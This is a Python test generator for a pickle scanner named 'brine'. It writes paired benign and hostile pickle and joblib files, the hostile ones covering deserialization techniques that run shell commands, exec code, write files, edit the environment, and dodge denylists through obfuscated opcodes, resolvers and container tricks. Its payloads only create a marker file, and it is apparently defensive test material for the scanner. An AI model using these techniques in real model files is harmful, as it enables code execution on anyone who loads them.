#!/usr/bin/python3
"""Write the hostile-file corpus of SECURITY.md section 2 into a directory.

    /usr/bin/python3 tests/security/make_attacks.py OUTDIR

Run it with Debian's interpreter (it fits small sklearn models and writes
joblib files).  Every attack file has a benign twin of the same shape; every
payload does nothing but create the file named by the MARKER environment
variable, read when the file is loaded (`touch "$MARKER"` through a shell,
or `io.FileIO(os.environ['MARKER'], 'w')` in Python), except where the
technique is itself a denial of service (the F rows, and joblib's reaction
to a second compressed stream).  Nothing here loads a generated file.

OUTDIR/manifest.json lists every file:
  file         path relative to OUTDIR
  role         attack | twin | sidecar (a file an attack or twin names)
  case         short name of the attack; its twin has the same case
  technique    SECURITY.md id (A1 ... F13); techniques: all ids it shows
               (compressed variants add D1)
  variant      plain, or the joblib compressor around the whole stream
               (zlib gzip bz2 xz lzma lz4, and zf, joblib's legacy format)
  consumer     what Python loads it with to prove harm: pickle.load (C),
               pickle._Unpickler (pure Python), joblib.load, and where the
               technique needs it numpy.load (zip) or gzip.open+pickle.load
  then         what the consumer does after loading: null, predict,
               transform, repr, or all-streams (pickle.load until EOF)
  harm         marker (the file appears), environ (os.environ changed), or
               dos (signal, timeout, MemoryError under the rlimits)
  rules        scan rule ids that must be among the findings
  globals      names the findings must grade unknown or dangerous
  verdict      the least severe verdict brine scan may give
  exit         brine scan's exit status (twins: 0)
  loader       {inspect: X, convert: X}: refuse: exit 2 with one stderr line
               naming one of `globals` (or a `names` entry) and, when
               `offset` is true, a byte offset; bounded: exit 0, or 2 with
               one line, within 10 s
  cwd_files    {name: corpus file} to copy into the child's cwd first
  twin         the twin's file (attacks only)

The output is deterministic: the same bytes on every run with the same
interpreter and packages.  (Marshal data in A3 depends on the Python
version, as real code-object payloads do.)
"""

import bz2
import copy
import gzip
import io
import json
import lzma
import os
import struct
import sys
import tempfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pk import (APPENDS, BUILD, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARK,  # noqa: E402
                MEMOIZE, NEWOBJ, NEWOBJ_EX, NEWTRUE, NONE, OBJ, POP, REDUCE, SETITEM,
                SETITEMS, STACK_GLOBAL, STOP, TUPLE1, TUPLE2, binget, binput, frame,
                pbytes, pcall, pdict, pglobal, pint, plist, proto, pstr, ptuple, wrap)

CMD = 'touch "$MARKER"'
PY_EXEC = "import io, os; io.FileIO(os.environ['MARKER'], 'w').close()"
COMPRESSORS = ("zlib", "gzip", "bz2", "xz", "lzma", "lz4", "zf")
EXT = {"zlib": "z", "gzip": "gz", "bz2": "bz2", "xz": "xz", "lzma": "lzma", "lz4": "lz4", "zf": "zf"}


# ---------------------------------------------------------------- compressors

def compress(name, raw):
    """`raw` as joblib would store it with compressor `name` (the whole
    stream compressed; joblib detects the compressor by magic)."""
    if name == "zlib":
        return zlib.compress(raw, 3)
    if name == "gzip":
        return gzip.compress(raw, 3, mtime=0)
    if name == "bz2":
        return bz2.compress(raw, 3)
    if name == "xz":
        return lzma.compress(raw, lzma.FORMAT_XZ, preset=3)
    if name == "lzma":
        return lzma.compress(raw, lzma.FORMAT_ALONE, preset=3)
    if name == "lz4":
        import lz4.frame
        return lz4.frame.compress(raw, compression_level=3)
    if name == "zf":
        from joblib.numpy_pickle_compat import write_zfile
        out = io.BytesIO()
        write_zfile(out, raw, 3)
        return out.getvalue()
    raise ValueError(name)


def joblib_bytes(obj, comp):
    """joblib.dump(obj) with compressor `comp` (None: uncompressed)."""
    import joblib
    with tempfile.TemporaryDirectory(prefix="brine-mkattack-") as d:
        path = os.path.join(d, "f")
        joblib.dump(obj, path, compress=(comp, 3) if comp else 0)
        with open(path, "rb") as f:
            return f.read()


# ---------------------------------------------------------------- payload pieces

def system(p, module="os", cmd=CMD):
    """module.system(cmd) by GLOBAL/STACK_GLOBAL + REDUCE."""
    return pcall(pglobal(module, "system", p), [pstr(cmd, p)], p)


def getenv_marker(p):
    """os.getenv('MARKER'): the marker path, read at load time."""
    return pcall(pglobal("os", "getenv", p), [pstr("MARKER", p)], p)


def benign_call(p):
    """The allowed reconstructor protocol 2 itself writes for bytes: the
    twin of a REDUCE payload keeps GLOBAL + args + REDUCE."""
    return pcall(pglobal("_codecs", "encode", p), [pstr(CMD, p), pstr("latin1", p)], p)


def benign(p):
    return wrap(benign_call(p), p)


class Reduce:
    """Pickles as fn(*args): Python's own pickler writes the payload, as an
    attacker's __reduce__ would (os.system is written as posix.system)."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def evil():
    return Reduce(os.system, (CMD,))


_SK = {}


def sk():
    """Small fitted models (fixed data and seeds: deterministic)."""
    if not _SK:
        from sklearn.preprocessing import StandardScaler
        from sklearn.tree import DecisionTreeClassifier
        _SK["scaler"] = StandardScaler().fit([[0.0, 1.0], [2.0, 3.0], [4.0, 7.0]])
        _SK["tree"] = DecisionTreeClassifier(random_state=0).fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])
    return _SK


# ---------------------------------------------------------------- cases

class Case:
    """One attack and its twin.  attack/twin are bytes (a pickle stream,
    compressed for the variants), or callables comp -> bytes for files that
    are joblib containers by nature (comp None: uncompressed joblib)."""

    def __init__(self, tech, name, attack, twin, desc, consumer="pickle.load", rules=("global.dangerous",),
                 globals_=(), names=(), verdict="dangerous", exit=1, loader="refuse", harm="marker",
                 then=None, variants=("plain",) + COMPRESSORS, techs=(), cwd_files=None, twin_exit=0,
                 sidecars=None, subdir=None, ext="pkl", offset=True):
        self.tech, self.name, self.attack, self.twin, self.desc = tech, name, attack, twin, desc
        self.consumer, self.rules, self.globals, self.names = consumer, list(rules), list(globals_), list(names)
        self.verdict, self.exit, self.loader, self.harm, self.then = verdict, exit, loader, harm, then
        self.variants, self.techs, self.cwd_files = variants, [tech] + list(techs), cwd_files or {}
        self.twin_exit, self.sidecars, self.subdir, self.ext = twin_exit, sidecars or {}, subdir, ext
        self.offset = offset


def plain_only():
    return ("plain",)


def args(*strs):
    """An args builder for runner(): the given strs, pushed for protocol p."""
    return lambda p: [pstr(s, p) for s in strs]


def runner(tech, name, module, fn, argf, p, desc, **kw):
    """The common shape: module.fn(*args) by REDUCE at protocol p, twin the
    benign REDUCE of the same protocol, module.fn among the flagged names."""
    kw.setdefault("globals_", ["%s.%s" % (module, fn)])
    return Case(tech, name, wrap(pcall(pglobal(module, fn, p), argf(p), p), p), benign(p), desc, **kw)


def call_after(callee, argv, p):
    """A whole pickle calling an already-assembled callee with str args."""
    return wrap(pcall(callee, [pstr(a, p) for a in argv], p), p)


# ---------------------------------------------------------------- A: direct globals

def a1():
    out = [runner("A1", "a1-%s-system-p%d" % (mod, p), mod, "system", args(CMD), p,
                  "%s.system(cmd) by %s + REDUCE, protocol %d" % (mod, "GLOBAL" if p < 4 else "STACK_GLOBAL", p))
           for p, mod in ((0, "os"), (2, "posix"), (4, "os"))]
    shell = lambda p: [plist([pstr("sh", p), pstr("-c", p), pstr(CMD, p)], p)]  # noqa: E731
    out.append(runner("A1", "a1-subprocess-run-p4", "subprocess", "run", shell, 4,
                      "subprocess.run(['sh', '-c', cmd]), protocol 4"))
    return out


def a2():
    """Python 2's __builtin__, renamed to builtins by CPython while the
    protocol is < 3 (PROTO 2, or no PROTO at all)."""
    evaluate = "__import__('io').FileIO(__import__('os').environ['MARKER'], 'w').close()"
    out = [runner("A2", "a2-__builtin__-%s-p%d" % (fn, p), "__builtin__", fn, args(src), p,
                  "__builtin__.%s(source): renamed to builtins.%s under protocol %d" % (fn, fn, p),
                  globals_=["builtins.%s|__builtin__.%s" % (fn, fn)])
           for fn, p, src in (("eval", 2, evaluate), ("exec", 0, PY_EXEC))]
    code = pcall(pglobal("builtins", "compile", 4), [pstr(PY_EXEC, 4), pstr("<x>", 4), pstr("exec", 4)], 4)
    out.append(Case("A2", "a2-exec-compile-p4", wrap(pcall(pglobal("builtins", "exec", 4), [code], 4), 4),
                    benign(4), "builtins.exec(builtins.compile(source, '<x>', 'exec'))",
                    globals_=["builtins.exec", "builtins.compile"]))
    return out


def a3():
    """A code object from marshal data (the bytes depend on the Python
    version, as real payloads' do), run by exec or as a function."""
    import marshal
    blob = marshal.dumps(compile(PY_EXEC, "<x>", "exec"))
    mcode = lambda p: pcall(pglobal("marshal", "loads", p), [pbytes(blob, p)], p)  # noqa: E731
    fn = pcall(pglobal("types", "FunctionType", 3), [mcode(3), EMPTY_DICT], 3)
    return [Case("A3", "a3-exec-marshal-p4", wrap(pcall(pglobal("builtins", "exec", 4), [mcode(4)], 4), 4),
                 benign(4), "builtins.exec(marshal.loads(code object bytes))",
                 globals_=["marshal.loads", "builtins.exec"]),
            Case("A3", "a3-functiontype-p3", wrap(pcall(fn, [], 3), 3), benign(3),
                 "types.FunctionType(marshal.loads(bytes), {})() builds and calls a function",
                 globals_=["types.FunctionType", "marshal.loads"])]


def a4():
    """stdlib helpers that run a shell command; each beat some denylist."""
    return [runner("A4", "a4-pydoc-pipepager-p2", "pydoc", "pipepager", args("", CMD), 2,
                   "pydoc.pipepager('', cmd) runs cmd through a shell"),
            runner("A4", "a4-uuid-get-command-stdout-p4", "uuid", "_get_command_stdout", args("sh", "-c", CMD), 4,
                   "uuid._get_command_stdout('sh', '-c', cmd)"),
            runner("A4", "a4-imaplib-imap4-stream-p2", "imaplib", "IMAP4_stream", args(CMD), 2,
                   "imaplib.IMAP4_stream(cmd) spawns cmd (then fails reading a greeting)"),
            # on no denylist: default deny must catch it (unknown is enough)
            runner("A4", "a4-osx-support-read-output-p4", "_osx_support", "_read_output", args(CMD), 4,
                   "_osx_support._read_output(cmd): on no denylist; default deny must catch it",
                   rules=["global.unknown|global.dangerous"], verdict="unknown")]


def a5():
    src = lambda p: [pstr(PY_EXEC, p), EMPTY_DICT]  # noqa: E731
    return [runner("A5", "a5-numpy-testing-runstring-p4", "numpy.testing._private.utils", "runstring", src, 4,
                   "numpy.testing._private.utils.runstring(source, {}) execs source: numpy, yet an executor")]


def a6():
    """File writes without exec; the path comes from os.getenv at load."""
    def opener(mode=True):
        return lambda p: [getenv_marker(p)] + ([pstr("w", p)] if mode else [])
    return [runner("A6", "a6-io-fileio-p2", "io", "FileIO", opener(), 2,
                   "io.FileIO(os.getenv('MARKER'), 'w') creates the file", globals_=["io.FileIO", "os.getenv"]),
            runner("A6", "a6-_io-fileio-p4", "_io", "FileIO", opener(), 4,
                   "_io.FileIO (the C module's alias) creates the file", globals_=["_io.FileIO", "os.getenv"],
                   techs=["B8"]),
            runner("A6", "a6-logging-filehandler-p4", "logging", "FileHandler", opener(False), 4,
                   "logging.FileHandler(path) opens (creates) its file when constructed",
                   globals_=["logging.FileHandler", "os.getenv"])]


def a7():
    """An instance made without __init__ (NEWOBJ, NEWOBJ_EX), its state set
    by BUILD; dbm.dumb._Database.__del__ (close -> _commit) then writes the
    file named in that state.  Twin: the same opcodes on StandardScaler."""
    def db_state(p):
        return pdict([(pstr("_index", p), EMPTY_DICT), (pstr("_modified", p), NEWTRUE),
                      (pstr("_dirfile", p), getenv_marker(p)), (pstr("_bakfile", p), pstr("absent.bak", p)),
                      (pstr("_datfile", p), pstr("absent.dat", p)), (pstr("_mode", p), pint(0o644, p))], p)
    out = []
    for p, kind, newobj in ((2, "newobj", EMPTY_TUPLE + NEWOBJ), (4, "newobj_ex", EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX)):
        twin = pglobal("sklearn.preprocessing._data", "StandardScaler", p) + newobj + \
            pdict([(pstr("with_mean", p), NEWTRUE)], p) + BUILD
        out.append(Case("A7", "a7-%s-dbm-dumb-p%d" % (kind, p),
                        wrap(pglobal("dbm.dumb", "_Database", p) + newobj + db_state(p) + BUILD, p), wrap(twin, p),
                        "%s on dbm.dumb._Database + BUILD; its __del__ writes _dirfile" % kind.upper(),
                        globals_=["dbm.dumb._Database", "os.getenv"],
                        rules=["global.unknown|call.schema", "global.dangerous"]))
    return out


# ---------------------------------------------------------------- B: resolvers and trampolines

COMPUTED = dict(rules=["global.dangerous", "call.computed"])


def b1():
    out = []
    for p, m in ((4, "builtins"), (2, "__builtin__")):
        imp = pcall(pglobal(m, "__import__", p), [pstr("os", p)], p)
        fn = pcall(pglobal(m, "getattr", p), [imp, pstr("system", p)], p)
        out.append(Case("B1", "b1-getattr-import-%s-p%d" % (m.strip("_"), p), call_after(fn, [CMD], p), benign(p),
                        "%s.getattr(%s.__import__('os'), 'system')(cmd)" % (m, m),
                        globals_=["builtins.getattr|__builtin__.getattr", "builtins.__import__|__builtin__.__import__"],
                        techs=["A2"] if p == 2 else [], **COMPUTED))
    return out


def b2():
    """Universal resolvers: names as strings become callables."""
    mod = lambda p: pcall(pglobal("importlib", "import_module", p), [pstr("os", p)], p)  # noqa: E731
    resolve = pcall(pglobal("pkgutil", "resolve_name", 4), [pstr("os:system", 4)], 4)
    caller = pcall(pglobal("operator", "methodcaller", 2), [pstr("system", 2), pstr(CMD, 2)], 2)
    getter = pcall(pcall(pglobal("operator", "attrgetter", 4), [pstr("system", 4)], 4), [mod(4)], 4)
    locate = pcall(pglobal("pydoc", "locate", 4), [pstr("os.system", 4)], 4)
    return [Case("B2", "b2-pkgutil-resolve-name-p4", call_after(resolve, [CMD], 4), benign(4),
                 "pkgutil.resolve_name('os:system')(cmd)", globals_=["pkgutil.resolve_name"], **COMPUTED),
            Case("B2", "b2-methodcaller-import-module-p2", wrap(pcall(caller, [mod(2)], 2), 2), benign(2),
                 "operator.methodcaller('system', cmd)(importlib.import_module('os'))",
                 globals_=["operator.methodcaller", "importlib.import_module"], **COMPUTED),
            Case("B2", "b2-attrgetter-import-module-p4", call_after(getter, [CMD], 4), benign(4),
                 "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
                 globals_=["operator.attrgetter", "importlib.import_module"], **COMPUTED),
            Case("B2", "b2-pydoc-locate-p4", call_after(locate, [CMD], 4), benign(4),
                 "pydoc.locate('os.system')(cmd)", globals_=["pydoc.locate"], **COMPUTED)]


def b3():
    """Wrappers: what they wrap must be reported too."""
    part = pcall(pglobal("functools", "partial", 2), [pglobal("posix", "system", 2), pstr(CMD, 2)], 2)
    mp = pcall(pglobal("builtins", "map", 4), [pglobal("posix", "system", 4), plist([pstr(CMD, 4)], 4)], 4)
    return [Case("B3", "b3-functools-partial-p2", call_after(part, [], 2), benign(2),
                 "functools.partial(posix.system, cmd)(): the wrapper and what it wraps",
                 globals_=["functools.partial", "posix.system"], **COMPUTED),
            Case("B3", "b3-list-map-p4", wrap(pcall(pglobal("builtins", "list", 4), [mp], 4), 4), benign(4),
                 "builtins.list(builtins.map(posix.system, [cmd])) runs the map",
                 globals_=["builtins.map", "posix.system"])]


def b4():
    """Runners of source text."""
    src_dict = lambda p: [pstr(PY_EXEC, p), EMPTY_DICT]  # noqa: E731
    return [runner("B4", "b4-runpy-run-code-p2", "runpy", "_run_code", src_dict, 2, "runpy._run_code(source, {})"),
            runner("B4", "b4-timeit-setup-p4", "timeit", "timeit", args("pass", PY_EXEC), 4,
                   "timeit.timeit('pass', setup=source) runs the setup once"),
            runner("B4", "b4-cprofile-run-p4", "cProfile", "run", args(PY_EXEC), 4,
                   "cProfile.run(source) execs it in __main__")]


def b5():
    """Nested loaders; literal bytes are a stream brine should scan too."""
    inner = wrap(system(2, "posix"), 2)
    return [runner("B5", "b5-pickle-loads-p4", "pickle", "loads", lambda p: [pbytes(inner, p)], 4,
                   "pickle.loads(literal bytes of a posix.system pickle): the bytes are a nested stream",
                   globals_=["pickle.loads", "posix.system"]),
            runner("B5", "b5-_pickle-loads-p2", "_pickle", "loads", lambda p: [pbytes(inner, p)], 2,
                   "_pickle.loads(_codecs.encode(payload text, 'latin1')): the C module's alias, bytes computed",
                   techs=["B8"])]


def b6():
    """State injection.  BUILD with slot state on a class sets a class
    attribute; the next BUILD on an instance calls the planted __setstate__
    (posix.system is a builtin, so it is not bound: it gets the state, cmd).
    SETITEM on os.environ edits the loading process's environment."""
    cls = pglobal("joblib.numpy_pickle", "NumpyArrayWrapper", 2)
    patch = cls + ptuple([NONE, pdict([(pstr("__setstate__", 2), pglobal("posix", "system", 2))], 2)], 2) + BUILD + POP
    inst = cls + EMPTY_TUPLE + NEWOBJ
    scaler = pglobal("sklearn.preprocessing._data", "StandardScaler", 2) + EMPTY_TUPLE + NEWOBJ + \
        pdict([(pstr("with_mean", 2), NEWTRUE)], 2) + BUILD + POP + NONE
    env = pglobal("os", "environ", 0) + pstr("BRINE_PWNED", 0) + pstr("1", 0) + SETITEM + POP + NONE
    return [Case("B6", "b6-build-patches-class-p2", wrap(patch + inst + pstr(CMD, 2) + BUILD, 2), wrap(scaler, 2),
                 "BUILD (None, {'__setstate__': posix.system}) on the class NumpyArrayWrapper, then BUILD cmd "
                 "on an instance", globals_=["posix.system"], names=["NumpyArrayWrapper", "posix.system"],
                 rules=["build.target"]),
            Case("B6", "b6-environ-setitem-p0", wrap(env, 0), wrap(pdict([(pstr("BRINE_PWNED", 0), pstr("1", 0))], 0), 0),
                 "SETITEM on os.environ edits the loading process's environment", globals_=["os.environ"],
                 rules=["build.target"], harm="environ")]


def b7():
    """A stored callable sklearn calls later: FunctionTransformer.transform
    calls func(X, **kw_args), and pydoc.pipepager(X, cmd=...) runs cmd."""
    return [Case("B7", "b7-functiontransformer-pipepager", lambda comp: _b7(comp, True),
                 lambda comp: _b7(comp, False),
                 "FunctionTransformer(func=pydoc.pipepager, kw_args={'cmd': cmd}): transform runs cmd",
                 globals_=["pydoc.pipepager"], then="transform")]


def b8():
    """Aliases only: the C modules behind operator and importlib."""
    gi = pcall(pglobal("_frozen_importlib", "_gcd_import", 4), [pstr("posix", 4)], 4)
    mc = pcall(pglobal("_operator", "methodcaller", 4), [pstr("system", 4), pstr(CMD, 4)], 4)
    return [Case("B8", "b8-_operator-frozen-importlib-p4", wrap(pcall(mc, [gi], 4), 4), benign(4),
                 "_operator.methodcaller('system', cmd)(_frozen_importlib._gcd_import('posix'))",
                 globals_=["_operator.methodcaller", "_frozen_importlib._gcd_import"], **COMPUTED)]


# ---------------------------------------------------------------- C: opcode-level obfuscation

def reduce_cmd(p):
    """(cmd,) REDUCE: the call of whatever callable is on the stack."""
    return ptuple([pstr(CMD, p)], p) + REDUCE


def c1():
    return [Case("C1", "c1-inst-os-system-p0", MARK + pstr(CMD, 0) + b"ios\nsystem\n" + STOP, benign(0),
                 "INST os system: resolves and calls at once", globals_=["os.system"]),
            Case("C1", "c1-inst-posix-system-p2", proto(2) + MARK + pstr(CMD, 2) + b"iposix\nsystem\n" + STOP,
                 benign(2), "INST in a protocol-2 stream", globals_=["posix.system"])]


def c2():
    obj = MARK + pglobal("posix", "system", 1) + pstr(CMD, 1) + OBJ + POP + NONE + STOP
    twin = MARK + pglobal("sklearn.preprocessing._data", "StandardScaler", 1) + OBJ + POP + NONE + STOP
    return [Case("C2", "c2-reduce-pop-p2", wrap(system(2, "posix") + POP + NONE, 2), wrap(benign_call(2) + POP + NONE, 2),
                 "REDUCE posix.system then POP: the result is dropped", globals_=["posix.system"]),
            Case("C2", "c2-obj-pop-p1", obj, twin, "OBJ posix.system(cmd) then POP (protocol 1, no PROTO)",
                 globals_=["posix.system"])]


def c3():
    """Names via the memo.  MEMOIZE writes at len(memo): after PUT 5 (one
    entry) the next MEMOIZE writes slot 1, not 6."""
    names = pstr("numpy", 4) + b"p5\n" + POP + pstr("os", 4) + MEMOIZE + POP + pstr("system", 4) + MEMOIZE + POP
    callee = pglobal("posix", "system", 2) + binput(7) + POP + NONE + POP
    return [Case("C3", "c3-memoize-index-p4", wrap(names + binget(1) + binget(2) + STACK_GLOBAL + reduce_cmd(4), 4),
                 benign(4), "STACK_GLOBAL operands from MEMOIZE slots 1 and 2 (after PUT 5)", globals_=["os.system"]),
            Case("C3", "c3-memo-callable-p2", wrap(callee + binget(7) + reduce_cmd(2), 2), benign(2),
                 "the REDUCE callee comes from the memo (BINPUT, POP, BINGET)", globals_=["posix.system"])]


def c4():
    """STACK_GLOBAL takes the str values of the byte-string opcodes too."""
    out = []
    for op, enc in (("short-binstring", lambda s: b"U" + bytes([len(s)]) + s),
                    ("binstring", lambda s: b"T" + struct.pack("<i", len(s)) + s),
                    ("string", lambda s: b"S'" + s + b"'\n")):
        body = enc(b"os") + enc(b"system") + STACK_GLOBAL + reduce_cmd(4)
        out.append(Case("C4", "c4-%s-operands-p4" % op, wrap(body, 4), benign(4),
                        "STACK_GLOBAL operands pushed by %s (decoded to str)" % op.upper(), globals_=["os.system"]))
    return out


def c5():
    """Operands computed at load time, by an unknown and by an allowlisted
    callee (copyreg._reconstructor(str, str, 'os') returns 'os')."""
    rot = lambda s: pcall(pglobal("_codecs", "decode", 4), [pstr(s, 4), pstr("rot13", 4)], 4)  # noqa: E731
    st = lambda s: pcall(pglobal("copyreg", "_reconstructor", 4),  # noqa: E731
                         [pglobal("builtins", "str", 4), pglobal("builtins", "str", 4), pstr(s, 4)], 4)
    return [Case("C5", "c5-rot13-operands-p4", wrap(rot("bf") + rot("flfgrz") + STACK_GLOBAL + reduce_cmd(4), 4),
                 benign(4), "STACK_GLOBAL operands computed by _codecs.decode('bf', 'rot13') etc.",
                 globals_=["_codecs.decode"], names=["_codecs.decode", "STACK_GLOBAL"], rules=["global.computed"]),
            Case("C5", "c5-reconstructor-str-operands-p4", wrap(st("os") + st("system") + STACK_GLOBAL + reduce_cmd(4), 4),
                 benign(4), "operands made by copyreg._reconstructor(str, str, 'os'): allowlisted callee",
                 names=["copyreg._reconstructor", "builtins.str", "STACK_GLOBAL"], rules=["global.computed"])]


def c6():
    """Dotted names walk attributes while the protocol is >= 4, from any
    module that imported os (pathlib, joblib.numpy_pickle)."""
    out = []
    for mod, how in (("pathlib", "stack"), ("joblib.numpy_pickle", "stack"), ("joblib.numpy_pickle", "global")):
        fn = pglobal(mod, "os.system", 4) if how == "stack" else b"c" + mod.encode() + b"\nos.system\n"
        out.append(Case("C6", "c6-%s-os-system-%s-p4" % (mod.replace(".", "-"), how), call_after(fn, [CMD], 4),
                        benign(4), "%s(%r, 'os.system') under PROTO 4 walks to os.system"
                        % ("STACK_GLOBAL" if how == "stack" else "GLOBAL", mod), globals_=["%s.os.system" % mod]))
    return out


def c7():
    """A second PROTO changes the rules for what follows: dotted names
    (only walked from 4 on) and __builtin__ (only renamed below 3)."""
    dotted = proto(2) + NONE + POP + proto(4) + b"cjoblib.numpy_pickle\nos.system\n" + reduce_cmd(2) + STOP
    renamed = proto(4) + NONE + POP + proto(2) + b"c__builtin__\nexec\n" + ptuple([pstr(PY_EXEC, 2)], 2) + REDUCE + STOP
    return [Case("C7", "c7-proto2-then-4-dotted", dotted, benign(2),
                 "PROTO 2 ... PROTO 4 then a dotted GLOBAL, which only protocol 4 walks",
                 globals_=["joblib.numpy_pickle.os.system"], rules=["proto.misplaced", "global.dangerous"]),
            Case("C7", "c7-proto4-then-2-builtin", renamed, benign(2),
                 "PROTO 4 ... PROTO 2 then __builtin__.exec, renamed only below protocol 3 (pure-Python unpickler)",
                 consumer="pickle._Unpickler", globals_=["builtins.exec|__builtin__.exec"],
                 rules=["proto.misplaced", "global.dangerous"])]


def c8():
    """The stream fills copyreg's extension registry itself (SETITEM on a
    global, B6), then EXT1 resolves its code: no dangerous global at all."""
    reg = pglobal("copyreg", "_inverted_registry", 2) + pint(200, 2) + \
        ptuple([pstr("posix", 2), pstr("system", 2)], 2) + SETITEM + POP
    return [Case("C8", "c8-ext1-registry-filled-p2", wrap(reg + b"\x82\xc8" + reduce_cmd(2), 2), benign(2),
                 "SETITEM copyreg._inverted_registry[200] = ('posix', 'system'), then EXT1 200 + REDUCE",
                 globals_=["copyreg._inverted_registry"], names=["copyreg._inverted_registry", "EXT1"],
                 rules=["build.target", "opcode.unsupported"], techs=["B6"])]


def c9():
    """Cover of a benign fitted model."""
    return [Case("C9", "c9-scaler-state", lambda comp: _c9_state(comp, True), lambda comp: _c9_state(comp, False),
                 "payload inside a fitted StandardScaler's BUILD state (joblib variants: joblib.dump of it)",
                 globals_=["posix.system"]),
            Case("C9", "c9-popped-before-scaler-p2", lambda comp: _c9_popped(comp, True, True),
                 lambda comp: _c9_popped(comp, False, True),
                 "REDUCE posix.system, POP, then a fitted StandardScaler", globals_=["posix.system"]),
            Case("C9", "c9-residue-under-scaler-p2", lambda comp: _c9_popped(comp, True, False),
                 lambda comp: _c9_popped(comp, False, True),
                 "REDUCE posix.system left on the stack under a StandardScaler (STOP returns the top)",
                 globals_=["posix.system"], rules=["global.dangerous", "stack.residue"])]


def c10():
    """A second pickle after STOP, run by loaders that call load again
    (joblib reads one pickle: no compressed variants)."""
    return [Case("C10", "c10-second-pickle-p2", wrap(NONE, 2) + wrap(system(2, "posix"), 2), wrap(NONE, 2) + benign(2),
                 "a benign pickle, then a posix.system pickle after its STOP", then="all-streams",
                 globals_=["posix.system"], variants=plain_only())]


def c11():
    """Text memo indices with odd endings and spacing: CPython parses them
    with int(), which strips whitespace and takes signs and leading zeros."""
    crlf = pstr("os", 0) + b"p1\r\n0" + pstr("system", 0) + b"p2\r\n0g1\r\ng2\r\n" + STACK_GLOBAL
    spaced = pstr("os", 0) + b"p 1 \n0" + pstr("system", 0) + b"p+2\n0g01\ng 2\n" + STACK_GLOBAL
    call = MARK + pstr(CMD, 0) + b"tR."
    return [Case("C11", "c11-crlf-memo-p0", crlf + call, benign(0),
                 "PUT/GET text indices ending in \\r\\n (CPython parses '1\\r' as 1)", globals_=["os.system"]),
            Case("C11", "c11-spaced-memo-p0", spaced + call, benign(0),
                 "PUT/GET text indices ' 1 ', '+2', '01', ' 2' (all mean 1 and 2 to CPython)",
                 globals_=["os.system"])]


# ---------------------------------------------------------------- D: containers

JOBLIB_VARIANTS = ("none",) + COMPRESSORS[:-1]   # joblib.dump writes no ZF


def joblib_case(tech, name, hostile, benign_obj, desc):
    """A file joblib.dump writes itself (arrays, wrappers), every compressor."""
    return Case(tech, name, lambda comp: joblib_bytes(hostile(), _jc(comp)),
                lambda comp: joblib_bytes(benign_obj(), _jc(comp)), desc, consumer="joblib.load",
                globals_=["posix.system"], variants=JOBLIB_VARIANTS, ext="joblib")


def d2():
    """After the first array: raw array bytes follow the wrapper's BUILD."""
    import numpy as np
    stops = np.full(64, 0x2E, dtype=np.uint8)
    return [joblib_case("D2", "d2-after-first-array", lambda: {"coef": np.arange(8.0), "hook": evil()},
                        lambda: {"coef": np.arange(8.0), "hook": CMD}, "payload after a NumpyArrayWrapper's raw bytes"),
            joblib_case("D2", "d2-after-array-of-stops", lambda: {"coef": stops, "hook": evil()},
                        lambda: {"coef": stops, "hook": CMD}, "array bytes all 0x2e (STOP) before the payload")]


def d3():
    return [joblib_case("D3", "d3-object-array", lambda: {"objs": _objarr(evil())}, lambda: {"objs": _objarr(CMD)},
                        "payload in an object array: joblib's nested pickle.load")]


def d4():
    """Legacy NDArrayWrapper naming the file that joblib opens with
    np.load(allow_pickle=True); an absolute name wins over the model's
    directory.  /proc/self/cwd makes an absolute name that is the same on
    every run yet lands in the child's fresh cwd."""
    import numpy as np
    sidecars = {"D4/evil-sidecar.pkl": wrap(system(2, "posix"), 2), "D4/m/twin-sidecar.npy": _npy(np.arange(3.0))}
    return [Case("D4", "d4-ndarraywrapper-%s" % tag, _d4(fname), _d4("twin-sidecar.npy"),
                 "legacy NDArrayWrapper with filename %r" % fname, consumer="joblib.load",
                 rules=["sidecar.path"], names=[fname, "NDArrayWrapper"], cwd_files=cwd, subdir="m", sidecars=sidecars)
            for tag, fname, cwd in (("absolute", "/proc/self/cwd/evil.pkl", {"evil.pkl": "D4/evil-sidecar.pkl"}),
                                    ("dotdot", "../evil-sidecar.pkl", {}))]


def d5():
    """A zip (.npz): unsupported, so exit 2 for attack and twin alike."""
    return [Case("D5", "d5-npz-object-array", _npz(evil()), _npz(None),
                 "an .npz (zip) whose member is an object array of a payload", consumer="numpy.load",
                 rules=[], verdict="allowed", exit=2, names=["zip"], variants=plain_only(), twin_exit=2, ext="npz")]


def d7():
    """The payload pickle split over two compressed members.  gzip.open
    joins gzip members; joblib 1.2 exhausts its memory on a second zlib
    stream (harm: dos), so only brine's reading of both matters there."""
    half = wrap(system(2, "posix"), 2)
    cut = len(half) // 2
    gz = lambda d: gzip.compress(d, 3, mtime=0)  # noqa: E731
    zl = lambda d: zlib.compress(d, 3)  # noqa: E731
    tw = benign(2)
    return [Case("D7", "d7-gzip-second-member", gz(half[:cut]) + gz(half[cut:]), gz(tw[:cut]) + gz(tw[cut:]),
                 "the pickle split over two gzip members (gzip.open joins them)", consumer="gzip.open+pickle.load",
                 globals_=["posix.system"], variants=plain_only(), ext="pkl.gz"),
            Case("D7", "d7-zlib-second-stream", zl(half[:cut]) + zl(half[cut:]), zl(tw),
                 "the pickle split over two zlib streams: joblib 1.2 exhausts memory on it", consumer="joblib.load",
                 globals_=["posix.system"], harm="dos", variants=plain_only(), ext="z")]


# ---------------------------------------------------------------- E: parser differentials

def e1():
    odd = EMPTY_DICT + MARK + pstr("k", 2) + SETITEMS
    return [Case("E1", "e1-truncated-after-reduce-p2", proto(2) + system(2, "posix"), benign(2),
                 "the stream ends right after REDUCE (EOFError after the command ran)", globals_=["posix.system"]),
            Case("E1", "e1-odd-setitems-after-reduce-p2", wrap(system(2, "posix") + POP + odd, 2), benign(2),
                 "REDUCE, then SETITEMS with an odd count: an error after the call ran", globals_=["posix.system"])]


def e2():
    return [Case("E2", "e2-invalid-opcode-after-p2", proto(2) + system(2, "posix") + b"\xff" + STOP, benign(2),
                 "an invalid opcode 0xff after the payload", globals_=["posix.system"]),
